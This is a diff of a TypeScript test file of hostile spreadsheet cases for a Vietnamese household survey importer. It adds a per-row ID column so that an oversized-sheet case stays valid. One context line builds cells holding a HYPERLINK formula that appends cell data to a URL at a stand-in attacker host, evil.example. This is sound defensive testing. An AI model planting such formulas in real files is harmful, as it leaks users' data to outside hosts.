@@ -23,6 +23,7 @@ const rowXml = (r: number, values: string[]) => `<row r="${r}">${values.map((v, 
 const sheet = (rows: string, extra = '', before = '') => `<worksheet xmlns="${MAIN}">${before}<sheetData>${rows}</sheetData>${extra}</worksheet>`;
 const HEADERS = surveyHeaders();
 const header = rowXml(1, HEADERS);
+const ID_COLUMN = HEADERS.indexOf('Số CCCD/CMND');
 const DATA = surveyRows(3).slice(1).map((r) => r.map((v) => String(v ?? '')));
 
 /** How Vietnamese typed with the legacy TCVN3 (ABC) and VNI fonts reads once the bytes are taken as Unicode. */
@@ -78,7 +79,8 @@ export const HOSTILE: HostileCase[] = [
   // Excel stops at column XFD (16,384): a sheet with 20,000 columns is malformed, and exceljs refuses it (PARSE_FAILED).
   { name: '20 k columns in the header row', build: () => minimalXlsx(sheet(rowXml(1, Array.from({ length: 20_000 }, (_, i) => `Cột ${i + 1}`)))), expect: ['PARSE_FAILED', 'NO_HOUSEHOLD_SHEET'] },
   { name: '16,384 columns (the maximum) in the header row', build: () => minimalXlsx(sheet(rowXml(1, Array.from({ length: 16_384 }, (_, i) => `Cột ${i + 1}`)))), expect: ['NO_HOUSEHOLD_SHEET'] },
-  { name: '16,384 columns in data rows', build: () => minimalXlsx(sheet(header + [2, 3, 4].map((r) => rowXml(r, [...DATA[0]!.map((v, j) => (j === 1 ? `X${r}` : v)), ...Array.from({ length: 16_384 - HEADERS.length }, (_, i) => `${i}`)])).join(''))), expect: ['VALID'] },
+  // Each row its own household code and ID number (one number in two households of a file is refused since issue 17).
+  { name: '16,384 columns in data rows', build: () => minimalXlsx(sheet(header + [2, 3, 4].map((r) => rowXml(r, [...DATA[0]!.map((v, j) => (j === 1 ? `X${r}` : j === ID_COLUMN ? DATA[r - 2]![ID_COLUMN]! : v)), ...Array.from({ length: 16_384 - HEADERS.length }, (_, i) => `${i}`)])).join(''))), expect: ['VALID'] },
   {
     name: 'formulas everywhere (no cached results)',
     build: () => minimalXlsx(sheet(header + [2, 3, 4, 5].map((r) => `<row r="${r}">${HEADERS.map((_, j) => `<c r="${colName(j + 1)}${r}"><f>HYPERLINK("http://evil.example/"&amp;A1,"x")</f></c>`).join('')}</row>`).join(''))),
